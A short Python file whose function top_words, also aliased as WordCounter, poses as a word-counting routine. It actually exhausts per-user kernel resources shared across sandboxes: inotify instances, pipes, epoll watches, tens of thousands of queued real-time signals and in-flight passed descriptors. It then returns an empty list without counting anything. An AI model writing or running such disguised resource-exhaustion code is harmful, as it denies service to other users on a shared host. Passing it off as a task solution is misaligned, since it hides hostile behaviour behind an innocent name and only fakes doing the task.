"""Uses up what the kernel grants one user over all sandboxes: notifications, pipes, watches, queued signals, descriptors on their way."""

import array
import ctypes
import os
import select
import signal
import socket
import time

libc = ctypes.CDLL(None)
HELD = []


def until_refused(action):
    try:
        for _ in range(150):
            HELD.append(action())
    except OSError:
        pass


def pass_descriptors():
    ours, theirs = socket.socketpair()
    ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 250))])
    return ours, theirs


def top_words(text, n):
    HELD.extend(libc.inotify_init() for _ in range(140))
    if os.fork() == 0:
        os.closerange(3, 256)
        until_refused(os.pipe)
        watches = [select.epoll() for _ in range(60)]
        for watch in watches:
            for fd in range(3, 200):
                try:
                    watch.register(fd)
                except OSError:
                    continue
        time.sleep(0.5)
        os._exit(0)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(34, 64))
    for _ in range(40_000):
        libc.sigqueue(os.getpid(), 40, None)
    until_refused(pass_descriptors)
    time.sleep(0.4)
    return []


WordCounter = atop_words = top_words
